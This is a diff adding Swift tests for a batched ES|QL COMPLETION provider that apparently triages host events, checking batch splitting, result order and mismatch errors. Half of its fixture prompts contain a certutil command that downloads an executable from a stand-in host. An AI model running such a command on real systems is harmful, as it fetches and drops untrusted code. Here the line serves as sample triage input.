@@ -57,3 +57,41 @@ struct EsqlCompletionTests {
         ).query(for: samplePrompt.prompt))
     }
 }
+
+@Suite("esql-completion batches: at most 100 rows per COMPLETION")
+struct EsqlCompletionBatchTests {
+    @Test("150 prompts go out as 100 + 50 rows through MV_EXPAND and come back in order")
+    func batches() async throws {
+        let stub = try StubServer([])
+        let provider = EsqlCompletionProvider(
+            transport: URLSessionTransport(maxConnections: 1, timeoutSeconds: 30), baseURL: stub.baseURL, inferenceID: "my-endpoint", auth: .apiKey(Secret("k"))
+        )
+        let prompts = (0..<150).map { index in
+            index.isMultiple(of: 2) ? "host-\(index) certutil -urlcache -split -f http://x/\"a\".exe" : "host-\(index) CcmExec.exe compliance \\ baseline"
+        }
+        let answers = try await provider.completeBatch(prompts)
+        #expect(answers.count == 150)
+        // The stub answers each prompt on its own (heuristically): answers differ by prompt content.
+        #expect(answers[0].text.hasPrefix("verdict="))
+        #expect(Set(answers.map(\.text)).count > 1)
+        let single = try await provider.completeBatch([prompts[1]])
+        #expect(single.first?.text == answers[1].text)
+
+        let requests = try await stub.requests().filter { $0.path == "/_query" }
+        #expect(requests.count == 3)
+        let queries = requests.compactMap { (try? JSONSerialization.jsonObject(with: Data($0.body.utf8)) as? [String: Any])?["query"] as? String }
+        #expect(queries.first?.contains("| MV_EXPAND prompt | COMPLETION triage_result = prompt WITH {\"inference_id\": \"my-endpoint\"} | KEEP prompt, triage_result") == true)
+        #expect(queries.first == provider.batchQuery(for: Array(prompts[0..<100])))
+        #expect(queries.dropFirst().first == provider.batchQuery(for: Array(prompts[100...])))
+    }
+
+    @Test("a reordered or short result is an error, never a mismatched answer")
+    func mismatched() throws {
+        let provider = EsqlCompletionProvider(transport: UnusedTransport(), baseURL: "https://es:9200", inferenceID: "e", auth: .apiKey(Secret("k")))
+        let body = #"{"columns":[{"name":"prompt","type":"keyword"},{"name":"triage_result","type":"keyword"}],"values":[["b","x"],["a","y"]]}"#
+        let response = HTTPResponse(status: 200, body: Data(body.utf8))
+        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "b"]) }
+        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["b", "a", "c"]) }
+        #expect(try provider.completions(from: response, for: ["b", "a"]).map(\.text) == ["x", "y"])
+    }
+}
